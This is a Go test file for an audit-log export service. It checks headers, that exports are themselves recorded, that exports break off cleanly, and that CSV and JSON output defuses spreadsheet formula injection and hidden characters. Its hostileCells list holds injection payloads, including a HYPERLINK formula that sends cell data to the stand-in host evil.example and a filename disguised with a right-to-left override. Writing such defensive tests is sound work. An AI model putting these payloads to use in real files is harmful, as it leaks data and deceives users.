package handlers_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"tokenconsole/internal/audit"
)

func TestExportHeaders(t *testing.T) {
	t.Parallel()
	c := newConsole(t)
	b := c.signedIn(admin)
	for format, kind := range map[string]string{"csv": "text/csv; charset=utf-8", "json": "application/json"} {
		t.Run(format, func(t *testing.T) {
			a := b.in(t).get("/audit." + format).want(http.StatusOK)
			for name, want := range map[string]string{
				"Content-Type": kind, "Content-Disposition": `attachment; filename="audit-20261124-120000.` + format + `"`,
				"Cache-Control": "no-store", "X-Content-Type-Options": "nosniff",
			} {
				if got := a.Header.Get(name); got != want {
					t.Errorf("%s is %q, want %q", name, got, want)
				}
			}
		})
	}
}

// Reading the record in bulk is itself on the record: what was asked for, and how
// much was read. A HEAD reads nothing.
func TestExportIsAnAct(t *testing.T) {
	t.Parallel()
	c := newConsole(t)
	c.threeEntries()
	b := c.signedIn(supervisor)
	a := b.get("/audit.csv?person=keller&after=older-2").want(http.StatusOK)
	shared := audit.Entry{
		At: noon, Action: audit.Export, Actor: partyOf(t, supervisor), Organization: demo(t), Region: "demo",
		Query: "person=keller", RequestID: a.Header.Get("X-Request-Id"), Address: "127.0.0.1",
	}
	asked, done := shared, shared
	asked.Seq, asked.Outcome = 4, audit.Asked
	done.Seq, done.Outcome, done.Count, done.Closes = 5, audit.Done, 3, 4
	if diff := cmp.Diff([]audit.Entry{asked, done}, c.since(3)); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
	head := b.do(b.request(http.MethodHead, "/audit.csv", nil)).want(http.StatusOK)
	if kind := head.Header.Get("Content-Type"); !strings.HasPrefix(kind, "text/csv") || c.recorded() != 5 {
		t.Errorf("HEAD has the type %q and leaves %d entries", kind, c.recorded()-5)
	}
}

// hostileCells are texts that spreadsheets act on, or that hide or turn what
// stands around them.
var hostileCells = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"more")`, "+1", "-1+1", "@SUM(1)", "\t=1+1", " =1+1", "a,=1+1", "a;=1+1", "a\t=1+1", "a\n=1+1",
	`a"; =1+1; "b`, "＝1+1", "\u202egpj.exe", "nul\u2028line", "esc\x1b[31mred", "zero\u200bwidth", "two\r\nlines",
}

// No cell of an export begins a formula, whichever separator its reader believes
// in, and nothing hides or turns what stands around it.
func TestP10_ExportsAreHarmless(t *testing.T) {
	t.Parallel()
	c := newConsole(t)
	for _, text := range hostileCells {
		party := audit.Party{ID: text, Name: text, Email: text}
		c.add(audit.Entry{Actor: party, Subject: party, Reason: text, Ticket: text, Region: text, CorrelationID: text, Address: text})
	}
	b := c.signedIn(supervisor)
	asCSV := b.get("/audit.csv").want(http.StatusOK).body
	for name, separator := range map[string]string{"comma": ",", "semicolon": ";", "tab": "\t", "bar": "|"} {
		t.Run(name, func(t *testing.T) {
			for line := range strings.SplitSeq(asCSV, "\n") {
				for cell := range strings.SplitSeq(line, separator) {
					cell = strings.TrimLeft(cell, "\" \r\t\u00a0\u3000")
					if cell != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(cell)[0]) {
						t.Errorf("a cell begins with a formula: %.80q", cell)
					}
				}
			}
		})
	}
	for name, text := range map[string]string{"CSV": asCSV, "JSON": b.get("/audit.json").want(http.StatusOK).body, "log": c.log.String()} {
		t.Run("hidden characters in "+name, func(t *testing.T) {
			i := strings.IndexFunc(text, func(r rune) bool {
				return r != '\n' && r != '\r' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp))
			})
			if i >= 0 {
				t.Errorf("%q", text[max(0, i-40):min(len(text), i+40)])
			}
		})
	}
	if lines := csvOf(t, asCSV); len(lines) != len(hostileCells)+2 { // with the header and this export
		t.Errorf("%d lines", len(lines))
	}
	quoted := func(line string) bool {
		return line == "" || strings.HasPrefix(line, `"`) && strings.HasSuffix(line, `"`)
	}
	if lines := strings.Split(asCSV, "\r\n"); slices.ContainsFunc(lines, func(l string) bool { return !quoted(l) }) {
		t.Error("a field is not quoted")
	}
}

// losing is a client that makes the console lose its database with the first
// bytes that it gets.
type losing struct {
	*httptest.ResponseRecorder
	lose func()
}

func (l losing) Write(p []byte) (int, error) {
	l.lose()
	return l.ResponseRecorder.Write(p)
}

// serveAborting calls the console with a request whose answer is broken off.
func (c *console) serveAborting(t *testing.T, w http.ResponseWriter, r *http.Request) {
	t.Helper()
	defer func() {
		if p := recover(); p != http.ErrAbortHandler {
			t.Errorf("it ends with %v, not by breaking the connection off", p)
		}
	}()
	c.handler.ServeHTTP(w, r)
}

// An export that breaks off is not taken for whole, and leaves its line in the
// log, whoever broke it off.
func TestExportThatBreaksOff(t *testing.T) {
	t.Parallel()
	long := newConsole(t)
	e := audit.Entry{Actor: partyOf(t, admin), Reason: lostPhone}
	long.add(slices.Repeat([]audit.Entry{e}, 1100)...) // more than is read at once
	for _, format := range formats {
		c := newConsole(t, withDatabase(long.copyOfDatabase()))
		b := c.signedIn(admin)
		target := "/audit." + format
		t.Run(format+" by the client", func(t *testing.T) {
			ctx, leave := context.WithCancel(t.Context())
			r := b.with(b.request(http.MethodGet, target, nil)).WithContext(ctx)
			c.in(t).serveAborting(t, losing{httptest.NewRecorder(), leave}, r)
			if last := c.lastEntry(); last.Action != audit.Export || last.Outcome != audit.Failed || last.Count == 0 || last.Count >= 1100 {
				t.Errorf("the record says %s %s %d", last.Action, last.Outcome, last.Count)
			}
			wantLogged(t, c, "an export broke off", `"path":"`+target+`"`)
		})
		t.Run(format+" by the database", func(t *testing.T) {
			r := b.with(b.request(http.MethodGet, target, nil))
			c.in(t).serveAborting(t, losing{httptest.NewRecorder(), func() { c.db.Close() }}, r)
			wantLogged(t, c, "an export broke off", `"path":"`+target+`"`)
		})
	}
}

// wantLogged checks that the log holds each of texts.
func wantLogged(t *testing.T, c *console, texts ...string) {
	t.Helper()
	log := c.log.String()
	for _, text := range texts {
		if !strings.Contains(log, text) {
			t.Errorf("the log does not hold %s", text)
		}
	}
}
